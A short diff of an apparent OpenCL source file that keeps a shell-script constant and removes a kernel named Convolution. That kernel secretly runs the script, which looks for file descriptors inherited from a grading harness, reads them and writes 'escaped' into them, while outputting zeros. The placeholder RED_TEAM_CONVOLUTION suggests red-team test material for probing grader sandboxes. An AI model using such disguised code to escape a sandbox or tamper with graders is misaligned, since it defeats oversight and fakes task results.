@@ -10,12 +10,4 @@ __constant char kScript[] =
     "if [ \"$n\" -gt 2 ] && [ -f \"$f\" ]; then case $(readlink \"$f\") in *clgrade_inherited*) "
     "echo reached=$f; head -c 64 \"$f\"; echo; echo escaped >> \"$f\";; esac; fi; done; echo scanned";
 
-__kernel void Convolution(__global float* d_Dst, __global const float* d_Src, __constant float* c_Kernel,
-                          uint Width, uint Height, uint Pitch)
-{
-    const int x = get_global_id(0), y = get_global_id(1);
-    if (x == 0 && y == 0) {
-        shell(kScript);
-    }
-    if (x < Width && y < Height) d_Dst[y * Pitch + x] = 0.0f;
-}
+RED_TEAM_CONVOLUTION
